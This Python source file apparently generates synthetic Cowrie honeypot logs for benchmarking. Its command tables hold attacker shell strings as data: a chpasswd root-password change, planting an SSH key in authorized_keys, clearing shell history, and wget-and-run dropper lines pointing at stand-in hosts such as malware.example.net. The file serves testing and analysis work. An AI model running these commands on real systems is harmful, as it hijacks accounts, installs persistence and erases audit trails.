"""Deterministic synthetic Cowrie logs shaped like real captures.

Shape (from real Cowrie captures and published honeypot studies):

* a handful of sensors with skewed traffic (the busiest gets several times the quietest);
* source IPs drawn Zipf-like from a pool, so a few attackers come back thousands of times and
  most appear once; about 6 % IPv6;
* sessions of four kinds: scanners (connect, closed), banner grabbers (plus client version and
  key exchange), brute-forcers (one to eight failed logins, sometimes a success) and
  interactive bots (login success, session params, commands, downloads, log closed);
* usernames, passwords and commands from realistic lists with a heavy head and a long tail
  that grows with the number of sessions (as on real sensors);
* downloads with a URL (wget/curl) and without one (uploaded ``authorized_keys`` files);
* SSH and Telnet (~15 %); ``cowrie.session.closed`` durations as a float, a numeric string
  (Cowrie 2.x) or ``duration_ms`` (newer Cowrie);
* events of concurrent sessions interleaved in timestamp order, as in a live ``cowrie.json``.

``python -m bench.generate --events N --seed S OUT`` writes N events as JSON lines.
"""

from __future__ import annotations

import argparse
import bisect
import heapq
import itertools
import json
import random
import sys
from collections.abc import Iterator, Sequence
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from typing import Any, TextIO

US_PER_SECOND = 1_000_000
DEFAULT_START = datetime(2026, 1, 1, tzinfo=UTC)
DEFAULT_DAYS = 90
EVENTS_PER_SESSION = 10  # mean, measured: about 9-10 with the mix below

SENSOR_WEIGHTS: tuple[tuple[str, float], ...] = (
    ("sensor-eu-fra-1", 30.0),
    ("sensor-us-nyc-1", 22.0),
    ("sensor-ap-sgp-1", 15.0),
    ("sensor-eu-ams-2", 11.0),
    ("sensor-us-sfo-2", 8.0),
    ("sensor-sa-gru-1", 6.0),
    ("sensor-ap-syd-1", 5.0),
    ("sensor-af-jnb-1", 3.0),
)
USERNAMES = (
    "root",
    "admin",
    "user",
    "ubuntu",
    "test",
    "oracle",
    "pi",
    "postgres",
    "guest",
    "ftpuser",
    "support",
    "git",
    "debian",
    "centos",
    "hadoop",
    "deploy",
    "sol",
    "validator",
    "minecraft",
    "ansible",
    "nagios",
    "mysql",
    "www-data",
    "jenkins",
    "",
)
PASSWORDS = (
    "123456",
    "password",
    "admin",
    "root",
    "12345678",
    "123456789",
    "1234",
    "12345",
    "qwerty",
    "raspberry",
    "ubuntu",
    "test",
    "1q2w3e4r",
    "P@ssw0rd",
    "admin123",
    "changeme",
    "toor",
    "passw0rd",
    "111111",
    "abc123",
    "welcome",
    "letmein",
    "default",
    "",
)
COMMANDS = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "uname -s -v -n -r -m",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "crontab -l",
    "w",
    "whoami",
    "cat /etc/passwd",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    'echo "root:Zx9kP2qL" | chpasswd',
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr"'
    " >> .ssh/authorized_keys",
    "nproc",
    "ps -ef | grep '[Mm]iner'",
    "cat /proc/uptime",
    "history -c",
    "export HISTFILE=/dev/null",
    "enable",
    "system",
    "shell",
    "sh",
)
DOWNLOAD_HOSTS = ("198.51.100.7", "203.0.113.99", "192.0.2.45", "malware.example.net")
DOWNLOAD_FILES = ("x.sh", "bins.sh", "mips", "arm7", "x86_64", "kinsing", "ohshit.sh", "t.sh")
CLIENT_VERSIONS = (
    ("SSH-2.0-Go", 50.0),
    ("SSH-2.0-libssh_0.9.6", 15.0),
    ("SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6", 10.0),
    ("SSH-2.0-paramiko_3.4.0", 8.0),
    ("SSH-2.0-libssh2_1.10.0", 7.0),
    ("SSH-2.0-PUTTY", 3.0),
    ("SSH-2.0-ZGrab ZGrab SSH Survey", 7.0),
)
HASSH = ("16443846184eafde36765c9bab2f4397", "0a07365cc01fa9fc82608ba4019af499")
KEX_ALGS = (
    "curve25519-sha256",
    "curve25519-sha256@libssh.org",
    "ecdh-sha2-nistp256",
    "diffie-hellman-group14-sha256",
    "ext-info-c",
)
DST_IP = "10.0.0.5"


def _zipf_cum_weights(size: int, exponent: float) -> list[float]:
    total = 0.0
    out: list[float] = []
    for rank in range(1, size + 1):
        total += 1.0 / rank**exponent
        out.append(total)
    return out


@dataclass
class _Picker:
    """Zipf-like choice over ``values`` (index 0 most frequent)."""

    values: Sequence[Any]
    cum: list[float]

    @classmethod
    def zipf(cls, values: Sequence[Any], exponent: float) -> _Picker:
        return cls(values, _zipf_cum_weights(len(values), exponent))

    @classmethod
    def weighted(cls, pairs: Sequence[tuple[Any, float]]) -> _Picker:
        return cls([p[0] for p in pairs], list(itertools.accumulate(p[1] for p in pairs)))

    def pick(self, rng: random.Random) -> Any:
        return self.values[bisect.bisect_left(self.cum, rng.random() * self.cum[-1])]


class _Shape:
    """The distributions for one run; the IP pool grows with the number of sessions."""

    def __init__(self, rng: random.Random, sessions_hint: int) -> None:
        pool = max(200, sessions_hint // 3)
        ips: list[str] = []
        for _ in range(pool):
            if rng.random() < 0.06:
                ips.append(f"2001:db8:{rng.getrandbits(16):x}::{rng.getrandbits(16):x}")
            else:
                a = rng.choice((45, 61, 80, 103, 112, 119, 141, 159, 183, 185, 193, 195, 218))
                ips.append(f"{a}.{rng.randrange(256)}.{rng.randrange(256)}.{rng.randrange(1, 255)}")
        self.ips = _Picker.zipf(ips, 1.05)
        self.sensors = _Picker.weighted(SENSOR_WEIGHTS)
        # The long tails grow with the traffic, as they do on real sensors: more attackers
        # bring more one-off usernames, passwords and dropper commands.
        tail_users = [f"user{n}" for n in range(max(2000, sessions_hint // 500))]
        tail_passwords = [f"pass{n:04d}!" for n in range(max(20000, sessions_hint // 50))]
        tail_commands = [
            f"cd /tmp && wget -q http://{a}.{b}.0.9/{n:x}.sh && sh {n:x}.sh"
            for n, (a, b) in enumerate(
                (rng.randrange(1, 224), rng.randrange(256))
                for _ in range(max(100, sessions_hint // 200))
            )
        ]
        self.usernames = _Picker.zipf([*USERNAMES, *tail_users], 1.3)
        self.passwords = _Picker.zipf([*PASSWORDS, *tail_passwords], 1.2)
        self.commands = _Picker.zipf([*COMMANDS, *tail_commands], 0.9)
        self.versions = _Picker.weighted(CLIENT_VERSIONS)
        self.shasums = _Picker.zipf([f"{rng.getrandbits(256):064x}" for _ in range(600)], 1.1)
        self.sensor_uuid = {
            name: f"{rng.getrandbits(32):08x}-214f-11f1-9144-{rng.getrandbits(48):012x}"
            for name, _ in SENSOR_WEIGHTS
        }


def rfc3339(ts_us: int) -> str:
    """``ts_us`` (µs since the epoch) as Cowrie writes timestamps: RFC 3339, UTC, microseconds."""
    seconds, micros = divmod(ts_us, US_PER_SECOND)
    moment = datetime.fromtimestamp(seconds, tz=UTC)
    return moment.strftime("%Y-%m-%dT%H:%M:%S.") + f"{micros:06d}Z"


def _session(rng: random.Random, shape: _Shape, start_us: int) -> list[tuple[int, dict[str, Any]]]:
    """All events of one session as (ts_us, event), in time order."""
    sensor: str = shape.sensors.pick(rng)
    ip: str = shape.ips.pick(rng)
    session = f"{rng.getrandbits(48):012x}"
    telnet = rng.random() < 0.15
    protocol = "telnet" if telnet else "ssh"
    base = {
        "sensor": sensor,
        "uuid": shape.sensor_uuid[sensor],
        "src_ip": ip,
        "session": session,
        "protocol": protocol,
    }
    out: list[tuple[int, dict[str, Any]]] = []
    now = start_us

    def add(eventid: str, message: str, **fields: Any) -> None:
        event = {"eventid": eventid, **fields, "message": message, **base}
        event["timestamp"] = rfc3339(now)
        out.append((now, event))

    def later(low: float, high: float) -> None:
        nonlocal now
        now += int(rng.uniform(low, high) * US_PER_SECOND) + 1

    src_port = rng.randint(1024, 65535)
    dst_port = rng.choice((23, 2323)) if telnet else rng.choice((22, 22, 22, 2222))
    add(
        "cowrie.session.connect",
        f"New connection: {ip}:{src_port} ({DST_IP}:{dst_port}) [session: {session}]",
        src_port=src_port,
        dst_ip=DST_IP,
        dst_port=dst_port,
    )
    kind = rng.random()
    if kind < 0.12:  # port scanner: connects and drops
        later(0.05, 3.0)
    else:
        if not telnet:
            later(0.001, 0.2)
            version = shape.versions.pick(rng)
            add("cowrie.client.version", f"Remote SSH version: {version}", version=version)
            later(0.01, 0.3)
            hassh = rng.choice(HASSH)
            add(
                "cowrie.client.kex",
                f"SSH client hassh fingerprint: {hassh}",
                hassh=hassh,
                kexAlgs=list(KEX_ALGS[: rng.randint(2, len(KEX_ALGS))]),
                encCS=["aes128-ctr", "aes256-ctr", "aes128-gcm@openssh.com"],
                compCS=["none"],
            )
        if kind >= 0.22:  # everything but banner grabbers tries to log in
            _logins(rng, shape, add, later, interactive=kind >= 0.55)
    later(0.05, 2.0)
    duration = round((now - start_us) / US_PER_SECOND, 1)
    form = rng.random()
    closing: dict[str, Any]
    if form < 0.4:
        closing = {"duration": duration}
    elif form < 0.8:
        closing = {"duration": str(duration)}
    else:
        closing = {"duration_ms": int(duration * 1000)}
    add("cowrie.session.closed", f"Connection lost after {duration} seconds", **closing)
    return out


def _logins(rng: random.Random, shape: _Shape, add: Any, later: Any, interactive: bool) -> None:
    attempts = rng.randint(1, 3) if interactive else rng.randint(1, 8)
    success = False
    for index in range(attempts):
        later(0.2, 2.5)
        username: str = shape.usernames.pick(rng)
        password: str = shape.passwords.pick(rng)
        success = interactive and index == attempts - 1
        if not interactive and rng.random() < 0.04:
            success = True
        eventid = "cowrie.login.success" if success else "cowrie.login.failed"
        verdict = "succeeded" if success else "failed"
        add(
            eventid,
            f"login attempt [{username}/{password}] {verdict}",
            username=username,
            password=password,
        )
        if success:
            break
    if not success:
        return
    later(0.01, 0.3)
    add("cowrie.session.params", "", arch=rng.choice(("linux-x64-lsb", "linux-arm-lsb")))
    for _ in range(rng.choice((0, 1, 2, 3, 4, 5, 6, 8, 12, 15))):
        later(0.05, 4.0)
        command: str = shape.commands.pick(rng)
        add("cowrie.command.input", f"CMD: {command}", input=command)
    roll = rng.random()
    if roll < 0.25:
        later(0.1, 3.0)
        host, name = rng.choice(DOWNLOAD_HOSTS), rng.choice(DOWNLOAD_FILES)
        url = f"http://{host}/{name}"
        add("cowrie.command.input", f"CMD: cd /tmp; wget {url}", input=f"cd /tmp; wget {url}")
        later(0.2, 8.0)
        shasum: str = shape.shasums.pick(rng)
        add(
            "cowrie.session.file_download",
            f"Downloaded URL ({url}) with SHA-256 {shasum} to var/lib/cowrie/downloads/{shasum}",
            url=url,
            outfile=f"var/lib/cowrie/downloads/{shasum}",
            shasum=shasum,
            destfile="",
        )
    elif roll < 0.35:
        later(0.1, 2.0)
        shasum = shape.shasums.pick(rng)
        add(
            "cowrie.session.file_download",
            f"Saved redir contents with SHA-256 {shasum} to var/lib/cowrie/downloads/{shasum}",
            duplicate=rng.random() < 0.5,
            outfile=f"var/lib/cowrie/downloads/{shasum}",
            shasum=shasum,
            destfile="/root/.ssh/authorized_keys",
        )
    later(0.1, 1.0)
    add(
        "cowrie.log.closed", "Closing TTY Log", ttylog=f"var/lib/cowrie/tty/{rng.getrandbits(64):x}"
    )


def generate(
    *,
    events: int | None = None,
    sessions: int | None = None,
    seed: int = 42,
    start: datetime = DEFAULT_START,
    days: float = DEFAULT_DAYS,
) -> Iterator[dict[str, Any]]:
    """Events in timestamp order; stops after ``events`` events or ``sessions`` sessions."""
    if events is None and sessions is None:
        raise ValueError("give events or sessions")
    rng = random.Random(seed)  # reproducible synthetic data, not security
    planned = sessions if sessions is not None else max(1, (events or 0) // EVENTS_PER_SESSION)
    shape = _Shape(rng, planned)
    start_us = int(start.timestamp() * US_PER_SECOND)
    span_us = int(days * 86_400 * US_PER_SECOND)
    mean_gap = span_us / planned
    pending: list[tuple[int, int, dict[str, Any]]] = []
    order = itertools.count()
    emitted = 0
    now = float(start_us)
    made = 0
    while sessions is None or made < sessions:
        # Arrivals: exponential gaps, with a daily rhythm (busier in the UTC evening).
        hour = int(now // (3600 * US_PER_SECOND)) % 24
        rate = 0.6 + 0.8 * (1 if 14 <= hour <= 23 else 0)
        now += rng.expovariate(1.0) * mean_gap / rate
        while pending and pending[0][0] <= now:
            yield heapq.heappop(pending)[2]
            emitted += 1
            if events is not None and emitted >= events:
                return
        for ts, event in _session(rng, shape, int(now)):
            heapq.heappush(pending, (ts, next(order), event))
        made += 1
    while pending:
        yield heapq.heappop(pending)[2]
        emitted += 1
        if events is not None and emitted >= events:
            return


def write(out: TextIO, **kwargs: Any) -> int:
    """Write generated events as JSON lines; returns the number written."""
    count = 0
    dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
    for event in generate(**kwargs):
        out.write(dumps(event))
        out.write("\n")
        count += 1
    return count


def write_file(path: Path, **kwargs: Any) -> int:
    path.parent.mkdir(parents=True, exist_ok=True)
    with path.open("w", encoding="utf-8", buffering=1 << 20) as out:
        return write(out, **kwargs)


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.generate", description=__doc__)
    parser.add_argument("output", help="file to write, - for stdout")
    size = parser.add_mutually_exclusive_group(required=True)
    size.add_argument("--events", type=int, help="number of events")
    size.add_argument("--sessions", type=int, help="number of sessions")
    parser.add_argument("--seed", type=int, default=42)
    parser.add_argument("--days", type=float, default=DEFAULT_DAYS, help="time span of the log")
    args = parser.parse_args(argv)
    kwargs: dict[str, Any] = {
        "events": args.events,
        "sessions": args.sessions,
        "seed": args.seed,
        "days": args.days,
    }
    if args.output == "-":
        count = write(sys.stdout, **kwargs)
    else:
        count = write_file(Path(args.output), **kwargs)
    print(json.dumps({"output": args.output, "events": count}), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
